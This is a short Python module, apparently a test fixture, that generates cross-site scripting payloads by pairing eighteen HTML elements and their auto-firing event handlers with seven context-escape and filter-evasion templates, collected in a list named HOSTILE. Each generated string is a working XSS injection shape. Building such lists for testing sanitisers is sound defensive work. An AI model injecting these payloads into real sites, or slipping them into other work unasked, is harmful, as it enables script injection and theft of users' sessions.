"""More hostile shapes, made by rule: every element that may load or run with every way to write it down."""

from __future__ import annotations

from itertools import product

from payloads import LOAD, PAYLOADS, RUN

_ELEMENTS = (
    ("img", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onpageshow"),
    ("input", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("details", "open", "ontoggle"),
    ("video", f"src={LOAD}", "oncanplay"),
    ("audio", f"src={LOAD}", "onerror"),
    ("iframe", f"src={LOAD}", "onload"),
    ("object", f"data={LOAD}", "onerror"),
    ("link", f"rel=stylesheet href={LOAD}", "onerror"),
    ("style", "", "onload"),
    ("marquee", "", "onstart"),
    ("x", "tabindex=1 autofocus", "onfocusin"),
    ("a", f"href={LOAD} autofocus", "onfocus"),
    ("math", "tabindex=1 autofocus", "onfocus"),
    ("dialog", "open", "oncancel"),
)
# Ways out of wherever the words are put, and ways past a filter that looks for the plain form.
_WAYS = (
    "<{e} {a} {h}={run}>",
    '"><{e} {a} {h}="{run}">',
    "'/><{e}/{a}/{h}='{run}'>",
    "</bdi></p></a></title></style></script><{e} {a} {h}={run}>",
    "&lt;{e} {a} {h}={run}&gt;",
    "<{E}\t{a}\n{H}\r= {run} //",
    "\u2028<{e}\x0c{a} {h}=&#x67;lobalThis.hit=1>",
)


def _made() -> list[str]:
    return [
        way.format(e=element, E=element.upper(), a=attribute, h=handler, H=handler.upper(), run=RUN)
        for (element, attribute, handler), way in product(_ELEMENTS, _WAYS)
    ]


HOSTILE = list(dict.fromkeys([*PAYLOADS, *_made()]))
